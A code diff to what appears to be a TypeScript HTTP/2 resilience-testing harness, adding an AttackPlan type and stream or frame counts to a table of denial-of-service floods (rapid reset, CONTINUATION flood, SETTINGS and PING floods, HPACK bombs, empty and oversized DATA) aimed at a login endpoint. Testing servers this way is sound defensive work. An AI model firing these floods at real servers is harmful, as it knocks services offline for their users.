@@ -3,6 +3,7 @@
 import { data, frame, openStream, openStreamInParts, ping, resetStream, settings } from "../frames.ts";
 import { flood } from "./http2-connections.ts";
 import { framesOf, get, LOGIN_BODY, login } from "./requests.ts";
+import type { AttackPlan } from "./target.ts";
 
 const CONTINUATION = 0x9;
 const HEADERS = 0x1;
@@ -38,8 +39,9 @@ function bomb(unit: number): Buffer {
 }
 
 /** By attack; the count is of streams or frames. */
-export const FLOODS = {
+export const FLOODS: Readonly<Record<string, AttackPlan>> = {
   "rapid-reset": flood({
+    count: 100_000,
     size: 100,
     unitsPerConnection: STREAMS,
     batch: (first, size) =>
@@ -50,6 +52,7 @@ export const FLOODS = {
       }),
   }),
   "continuation-flood": flood({
+    count: 100_000,
     size: 50,
     batch: (first, size) => {
       const [head] = openStreamInParts(1, get("/auth/time").headers);
@@ -59,16 +62,23 @@ export const FLOODS = {
       return first === 0 ? Buffer.concat([head, flood]) : flood;
     },
   }),
-  "settings-flood": flood({ size: 500, batch: (_, size) => repeat(size, () => settings(65_535)) }),
-  "settings-flood-unread": flood({ size: 500, reads: false, batch: (_, size) => repeat(size, () => settings(1)) }),
-  "ping-flood": flood({ size: 500, batch: (_, size) => repeat(size, ping) }),
-  "ping-flood-unread": flood({ size: 500, reads: false, batch: (_, size) => repeat(size, ping) }),
+  "settings-flood": flood({ count: 200_000, size: 500, batch: (_, size) => repeat(size, () => settings(65_535)) }),
+  "settings-flood-unread": flood({
+    count: 200_000,
+    size: 500,
+    reads: false,
+    batch: (_, size) => repeat(size, () => settings(1)),
+  }),
+  "ping-flood": flood({ count: 200_000, size: 500, batch: (_, size) => repeat(size, ping) }),
+  "ping-flood-unread": flood({ count: 200_000, size: 500, reads: false, batch: (_, size) => repeat(size, ping) }),
   "hpack-bombs": flood({
+    count: 10_000,
     size: 10,
     unitsPerConnection: STREAMS,
     batch: (first, size) => repeat(size, (index) => bomb(first + index)),
   }),
   "empty-data": flood({
+    count: 200_000,
     size: 500,
     batch: (first, size) => {
       const empty = repeat(size, () => data(1, Buffer.alloc(0), false));
@@ -77,6 +87,7 @@ export const FLOODS = {
   }),
   // More than a login may have, on streams that the window still lets through.
   "data-flood": flood({
+    count: 20_000,
     size: 4,
     unitsPerConnection: STREAMS,
     batch: (first, size) =>
